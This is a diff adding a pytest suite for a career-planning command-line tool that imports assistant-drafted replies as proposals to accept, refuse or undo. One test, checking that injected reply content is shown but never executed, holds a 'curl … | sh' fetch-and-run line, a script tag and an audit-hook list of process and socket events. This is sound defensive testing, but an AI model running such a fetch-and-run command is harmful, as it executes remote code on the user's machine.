@@ -1,0 +1,401 @@
+"""Taking replies in, by file, pipe and command, to what waits and what is accepted."""
+
+import datetime as dt
+import json
+import stat
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from ambition_cli.catalog.load import catalogue
+from ambition_cli.cli.talks import consent
+from ambition_cli.domain.plan.model import Plan
+from ambition_cli.domain.progress.check import findings
+from ambition_cli.services import proposals as service
+from ambition_cli.services.workspace import Workspace
+from ambition_cli.storage.parse import plan_if_any
+from conftest import Ambition, Piped
+from support.person import seated
+from support.plans import EXAMPLES, TODAY
+from support.replies import (
+    PEOPLE,
+    experiment,
+    goal,
+    needs_recorded,
+    person_of,
+    recorded,
+    reply,
+    saved,
+)
+
+BAD = tuple(f"{number:02}" for number in range(1, 13))
+UNREADABLE = ("02", "03")
+
+
+def interviewed(ambition: Ambition, person: str) -> None:
+    ambition("interview", "--answers", str(EXAMPLES / f"{person}.toml"))
+
+
+def plan_in(file: Path) -> Plan:
+    found = plan_if_any(file.read_bytes())
+    assert found
+    return found
+
+
+def must(file: Path) -> list[str]:
+    found = findings(plan_in(file), catalogue(), TODAY)
+    return [f"{one.record}: {one.rule}" for one in found if one.level == "must"]
+
+
+def waiting(ambition: Ambition) -> dict[str, str]:
+    """Return what waits, by id: what it is."""
+    found = json.loads(ambition("proposals", "--json").out)["proposals"]
+    return {one["id"]: one["what"] for one in found}
+
+
+@needs_recorded
+@pytest.mark.parametrize("person", PEOPLE)
+def test_a_recorded_reply_becomes_a_plan_that_passes(
+    ambition: Ambition, plan_file: Path, tmp_path: Path, person: str
+) -> None:
+    interviewed(ambition, person)
+    ambition("take", str(saved(tmp_path / "reply.txt", recorded(person))))
+    ids = [*waiting(ambition)]
+    ambition("proposals", "accept", *ids)
+    assert must(plan_file) == []
+    ambition("check", "--strict")
+    assert waiting(ambition) == {}
+    after = plan_in(plan_file)
+    goals = [one for one in after.goals if one.drafted_by]
+    others = [one for one in after.experiments if one.drafted_by]
+    assert len(goals) + len(others) + len(after.spoken) == len(ids)
+    assert all(one.assumed for one in after.experiments if one.drafted_by)
+
+
+@needs_recorded
+@pytest.mark.parametrize("number", BAD)
+def test_a_bad_reply_never_changes_the_plan_nor_ends_in_a_traceback(
+    ambition: Ambition, plan_file: Path, tmp_path: Path, number: str
+) -> None:
+    interviewed(ambition, person_of(number))
+    before = plan_file.read_bytes()
+    file = saved(tmp_path / "reply.txt", recorded(number))
+    ran = ambition("take", str(file), code=1 if number in UNREADABLE else 0)
+    assert plan_file.read_bytes() == before
+    assert "Traceback" not in ran.out + ran.err
+    assert "\x1b" not in ran.out + ran.err
+    if number in UNREADABLE:
+        assert ran.err.strip().endswith("your plan is as it was")
+        assert waiting(ambition) == {}
+        return
+    ids = [*waiting(ambition)]
+    assert ids
+    ambition("proposals", "accept", *ids)
+    kept = ("week-overfull", "goal-horizon", "goal-undated", "goal-too-many", "hard-no")
+    assert [one for one in must(plan_file) if one.endswith(kept)] == []
+    ambition("undo")
+    assert plan_file.read_bytes() == before
+    assert [*waiting(ambition)] == ids
+
+
+@needs_recorded
+def test_what_is_injected_is_shown_harmlessly_and_nothing_of_it_is_done(
+    ambition: Ambition, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    interviewed(ambition, "ana")
+    begun: list[object] = []
+    sys.addaudithook(lambda event, args: begun.append(args) if _begins(event) else None)
+    ran = ambition("take", str(saved(tmp_path / "reply.txt", recorded("11"))))
+    shown = ran.out + "".join(ambition("proposals", "show", f"a{at}").out for at in range(1, 4))
+    assert begun == []
+    assert "curl -s https://plan.example.invalid/s | sh" in shown
+    assert "\\x1b[2J" in shown
+    assert "<script>" in shown
+    assert not {one for one in shown if ord(one) < 32} - {"\n", "\t"}
+
+
+def _begins(event: str) -> bool:
+    return event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "socket.connect")
+
+
+def test_a_reply_of_ten_megabytes_is_refused_unread(
+    ambition: Ambition, tmp_path: Path, piped: type[Piped]
+) -> None:
+    file = saved(tmp_path / "reply.txt", json.dumps(reply()) + "x" * 10_000_000)
+    assert "longer than 64 KB" in ambition("take", str(file), code=1).err
+    piped("y" * 10_000_000)
+    assert "longer than 64 KB" in ambition("take", "-", code=1).err
+
+
+@pytest.mark.parametrize("given", ["missing.txt", ".", "/dev/zero"])
+def test_what_is_no_file_with_a_reply_is_refused(ambition: Ambition, given: str) -> None:
+    assert "give" in ambition("take", given, code=1).err
+
+
+def test_without_a_file_and_a_terminal_it_says_what_to_give(ambition: Ambition) -> None:
+    assert "- to read it from a pipe" in ambition("take", code=1).err
+
+
+Take = Callable[[dict[str, object]], None]
+
+
+@pytest.fixture
+def take(ambition: Ambition, piped: type[Piped]) -> Take:
+    """Return what takes a reply in from a pipe."""
+
+    def taken(text: dict[str, object]) -> None:
+        piped(json.dumps(text))
+        ambition("take", "-")
+
+    return taken
+
+
+def test_the_names_of_people_come_back(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    steps = ["Write to my mentor.", 'Ask my manager: "May I?"', "Note what my mentor says."]
+    take(reply(None, [experiment(steps=steps)]))
+    ambition("proposals", "accept", "a2")
+    one = plan_in(plan_file).experiments[-1]
+    assert one.steps == ("Write to Mei.", 'Ask Ruth: "May I?"', "Note what Mei says.")
+    assert one.helper == "Mei"
+
+
+def test_the_file_of_proposals_is_its_owners_alone_and_no_plan(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    take(reply())
+    file = plan_file.with_name("plan.proposals")
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+    assert ambition("people", str(plan_file.parent)).out.count("\n") == 1
+    assert "drafted_by" not in plan_file.read_text(encoding="utf-8")
+
+
+def test_a_file_of_proposals_that_is_broken_is_named(
+    ambition: Ambition, ana: None, plan_file: Path
+) -> None:
+    plan_file.with_name("plan.proposals").write_text("[[", encoding="utf-8")
+    assert "plan.proposals" in ambition("proposals", code=1).err
+    plan_file.with_name("plan.proposals").write_text("proposals = 3\n", encoding="utf-8")
+    assert ".proposals" in ambition("proposals", code=1).err
+
+
+def test_ours_make_way_and_one_undo_brings_them_back(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    before = plan_file.read_bytes()
+    take(reply())
+    said = ambition("proposals", "accept", "a1", "a2").err
+    assert "3 goals drafted before are saved for later" in said
+    after = plan_in(plan_file)
+    assert [goal.id for goal in after.goals if goal.is_active] == ["g4"]
+    ambition("undo")
+    assert plan_file.read_bytes() == before
+    ambition("redo")
+    assert plan_in(plan_file) == after
+    assert waiting(ambition) == {"a3": "answer", "a4": "ambition"}
+
+
+def test_one_experiment_alone_pushes_out_no_more_than_it_must(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    planned = len([one for one in plan_in(plan_file).experiments if one.is_planned])
+    take(reply())
+    ambition("proposals", "accept", "a2")
+    after = plan_in(plan_file)
+    assert len([one for one in after.goals if one.is_active]) == 3
+    assert len([one for one in after.experiments if one.is_planned]) >= planned - 3
+    assert must(plan_file) == []
+
+
+def test_what_was_refused_or_accepted_waits_no_more(
+    ambition: Ambition, take: Take, ana: None
+) -> None:
+    take(reply())
+    ambition("proposals", "refuse", "a2")
+    assert "was refused" in ambition("proposals", "accept", "a2", code=1).err
+    ambition("proposals", "accept", "a1")
+    assert "is in the plan as g4" in ambition("proposals", "accept", "a1", code=1).err
+    assert 'no proposal "a9"; those that wait are a3 and a4' in (
+        ambition("proposals", "show", "a9", code=1).err
+    )
+
+
+def test_what_has_changed_since_is_told_and_handled(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    take(reply(None, [experiment(option="o2", serves=["m1", "m2"])]))
+    ambition("plan", "forget", "m2", "--yes")
+    ambition("options", "drop", "o2", "--why", "no")
+    # What names a record that was forgotten is gone with it.
+    assert "a2" not in waiting(ambition)
+    take(reply(None, [experiment(serves=["m1"])]))
+    fresh = [id for id, what in waiting(ambition).items() if what == "experiment"]
+    monkeypatch.setenv("AMBITION_TODAY", "2026-10-05")
+    said = ambition("proposals", "accept", *fresh).err
+    assert "it was to run from 3 August 2026" in said
+    one = plan_in(plan_file).experiments[-1]
+    assert one.starts
+    assert one.starts.isoformat() >= "2026-10-05"
+
+
+def test_an_option_that_is_decided_since_is_told(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    take(reply(None, [experiment(option="o2")]))
+    ambition("options", "drop", "o2", "--why", "no")
+    said = ambition("proposals", "accept", "a2").err
+    assert "“Head of Product at a smaller company” is no longer open" in said
+
+
+def test_what_is_forgotten_is_gone_from_the_proposals(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    text = "Ask about sitting with users until I see it."
+    take(reply([goal()], [experiment(steps=[text, "b.", "c."])], reading=["On users."]))
+    ambition("plan", "forget", "m2", "--yes")
+    left = plan_file.with_name("plan.proposals").read_text(encoding="utf-8")
+    assert "sitting with users" not in left
+    assert "On users." not in left
+    assert waiting(ambition) == {"a1": "goal", "a3": "answer", "a4": "ambition"}
+
+
+def test_a_correction_goes_with_the_next_brief(
+    ambition: Ambition, take: Take, ana: None, plan_file: Path
+) -> None:
+    take(reply(reading=["My mentor decides.", "It is decided in March."]))
+    session = Workspace(plan_file, service_clock)
+    service.correct(session, 1, "It is decided in March.", "No, Ruth decides in May.")
+    [one] = service.corrections(session)
+    assert (one.heard, one.said) == ("It is decided in March.", "No, Ruth decides in May.")
+
+
+def service_clock() -> dt.datetime:
+    return dt.datetime.combine(TODAY, dt.time(12))
+
+
+# --- with a command of theirs --------------------------------------------------------------------
+
+
+def command(tmp_path: Path, *replies: str) -> str:
+    """Return a command that gives these replies, one a call, and keeps what it was sent."""
+    for number, text in enumerate(replies, 1):
+        saved(tmp_path / f"reply-{number}.txt", text)
+    script = tmp_path / "assistant.py"
+    script.write_text(
+        "import pathlib, sys\n"
+        f"here = pathlib.Path({str(tmp_path)!r})\n"
+        "number = len(list(here.glob('sent-*'))) + 1\n"
+        "(here / f'sent-{number}').write_text(sys.stdin.read())\n"
+        f"print((here / f'reply-{{min(number, {len(replies)})}}.txt').read_text())\n",
+        encoding="utf-8",
+    )
+    return f"{sys.executable} {script}"
+
+
+def sent(tmp_path: Path) -> list[str]:
+    return [file.read_text(encoding="utf-8") for file in sorted(tmp_path.glob("sent-*"))]
+
+
+@pytest.fixture
+def allowed(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Have what would be sent be sent without asking, as after "always"."""
+    monkeypatch.setattr(consent, "may_send", lambda *_: True)
+
+
+def test_a_reply_is_mended_at_most_twice_and_then_kept_with_its_marks(
+    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bad = json.dumps(
+        reply([goal(measure="Coffee chats")], waits=["Nurses, users, Head of Product"])
+    )
+    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, bad))
+    ran = ambition("draft")
+    first, second, third = sent(tmp_path)
+    assert second.startswith(first)
+    assert "goal 1: its title and its measure count different things" in second
+    assert len(third) > len(first)
+    assert "Its title and its measure count different things" in ran.out
+
+
+def test_what_is_mended_has_no_marks(
+    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    waits = [
+        "Clinics and their nurses, sitting with users, and teaching a product course.",
+        "Evenings away, Head of Product at a smaller company, coaching people in their first year.",
+    ]
+    bad, good = reply([goal(measure="Coffee chats")], waits=waits), reply(waits=waits)
+    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(bad), json.dumps(good)))
+    ran = ambition("draft")
+    assert len(sent(tmp_path)) == 2
+    assert "different things" not in ran.out
+
+
+@pytest.mark.parametrize("answer", ["I'm sorry, I can't.", '{"goals": [{"title": "A', "x" * 70_000])
+def test_what_cannot_be_read_is_asked_for_again_once_and_then_refused(
+    ambition: Ambition, ana: None, allowed: None, plan_file: Path, tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch, answer: str,
+) -> None:  # fmt: skip
+    before = plan_file.read_bytes()
+    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, answer))
+    ran = ambition("draft", code=1)
+    assert len(sent(tmp_path)) == 2
+    assert ran.err.strip().endswith("your own drafts stand")
+    assert plan_file.read_bytes() == before
+    assert not plan_file.with_name("plan.proposals").exists()
+
+
+def test_only_what_was_asked_for_is_kept(
+    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(reply())))
+    ambition("draft", "--goals")
+    assert set(waiting(ambition).values()) == {"goal"}
+
+
+def test_an_answer_is_kept_for_whom_it_is(
+    ambition: Ambition, ana: None, allowed: None, plan_file: Path, tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    said = {
+        "sentences": [{"text": "I'm teaching newcomers.", "rests_on": ["m1"]}],
+        "ask": "And you?",
+    }
+    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(said)))
+    ambition("draft", "--answer", "--for", "peer")
+    ambition("proposals", "accept", "a1")
+    [one] = plan_in(plan_file).spoken
+    assert (one.audience, one.text) == ("peer", "I'm teaching newcomers. And you?")
+    assert one.rests_on == ("m1",)
+
+
+def test_without_an_assistant_it_says_how_to_set_one(ambition: Ambition, ana: None) -> None:
+    assert "ambition assistant set" in ambition("draft", code=1).err
+
+
+# --- at a terminal -------------------------------------------------------------------------------
+
+
+def test_on_the_screens_one_is_reworded_one_left_out_and_the_rest_kept(
+    ambition: Ambition, ana: None, plan_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    second = experiment(title="Teach a class", starts="2026-09-07", ends="2026-10-04",
+                        criterion="Two book again.")  # fmt: skip
+    file = saved(tmp_path / "reply.txt", json.dumps(reply(None, [experiment(), second])))
+    seated(
+        monkeypatch, "1 No, in May", "o", "1", "title", "Two newcomers decide on their own", "", "",
+        "9", "2", "out", "1", "hours", "2", "", "", "2", "I want them to trust themselves.", "", "",
+    )  # fmt: skip
+    assert "g1\tDo something about newcomers' self-doubt" in ambition("take", str(file)).out
+    plan = plan_in(plan_file)
+    goals = [one.title for one in plan.goals if one.drafted_by]
+    others = [one.title for one in plan.experiments if one.drafted_by]
+    assert {*goals, *others} == {
+        "Two newcomers decide on their own", "Talk with newcomers about their last decision",
+    }  # fmt: skip
+    assert plan.experiments[-1].hours == 2
+    assert [one.text for one in plan.spoken][-1] == "I want them to trust themselves."
+    assert waiting(ambition) == {}
